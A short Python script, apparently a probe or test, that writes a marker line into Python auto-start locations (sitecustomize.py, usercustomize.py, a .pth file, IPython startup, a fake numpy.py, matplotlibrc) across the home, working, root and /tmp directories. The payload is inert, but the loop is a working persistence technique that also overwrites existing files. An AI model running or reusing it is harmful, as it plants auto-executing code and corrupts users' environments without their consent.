import os
import site
from pathlib import Path

line = "import builtins; builtins.hostile_startup = True"
homes = {Path.home(), Path.cwd(), Path(site.USER_BASE or "."), Path("/"), Path("/tmp")}
for home in homes:
    for name in (
        "sitecustomize.py",
        "usercustomize.py",
        ".pythonrc",
        "matplotlibrc",
        "numpy.py",
        "hostile.pth",
        ".ipython/profile_default/startup/00.py",
        ".config/matplotlib/matplotlibrc",
    ):
        try:
            (home / name).parent.mkdir(parents=True, exist_ok=True)
            (home / name).write_text(line)
        except OSError:
            pass
